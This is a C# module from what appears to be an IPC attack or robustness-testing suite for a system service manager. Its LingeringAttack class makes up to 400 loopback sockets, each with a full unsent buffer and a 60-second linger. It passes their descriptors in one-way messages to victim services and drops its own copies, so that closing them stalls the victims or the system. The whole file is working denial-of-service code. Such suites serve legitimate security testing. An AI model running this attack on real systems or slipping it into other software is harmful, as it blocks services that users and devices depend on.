using System.Net;
using System.Net.Sockets;
using LiteIpc;

namespace Samgr.Attacks.Modules;

/// <summary>
/// Messages with descriptors of sockets that have unsent data and a time to linger: who closes the last one waits for a peer that does
/// not read. The sender's own copy is closed, so that the last one is a victim's, or the machine's when the message is refused.
/// </summary>
internal static class LingeringAttack
{
    private const int LingerSeconds = 60;
    private const int Most = 400;
    private const int SmallBuffer = 4096;

    internal static void Run(Attacker attacker)
    {
        SvcIdentity[] victims = attacker.FindVictims();
        HostileLink link = attacker.TakeOver();
        using Socket listener = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Unspecified);
        listener.Bind(new IPEndPoint(IPAddress.Loopback, 0));
        listener.Listen(Most);
        List<Socket> peers = [];
        while (peers.Count < Most)
        {
            using Socket lingering = Connect(listener, peers);
            int file = (int)lingering.SafeHandle.DangerousGetHandle();
            IpcIo content = new(64, 1);
            content.WriteFileDescriptor(file);
            SvcIdentity victim = victims[peers.Count % victims.Length];
            link.Post(victim.Handle, victim.Token, HonestFunction.Echo, IpcFlag.OneWay, content, file, 1);
            attacker.Line.Count("lingering sockets");
        }

        // Its peers end with this process; the next one goes on.
        attacker.Die();
    }

    private static Socket Connect(Socket listener, List<Socket> peers)
    {
        Socket lingering = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Unspecified) { SendBufferSize = SmallBuffer };
        lingering.Connect(listener.LocalEndPoint!);
        peers.Add(listener.Accept());
        lingering.LingerState = new LingerOption(true, LingerSeconds);
        lingering.Blocking = false;
        byte[] data = new byte[64 * 1024];
        while (lingering.Send(data, SocketFlags.None, out SocketError error) > 0 && error == SocketError.Success)
        {
            continue;
        }

        lingering.Blocking = true;
        return lingering;
    }
}
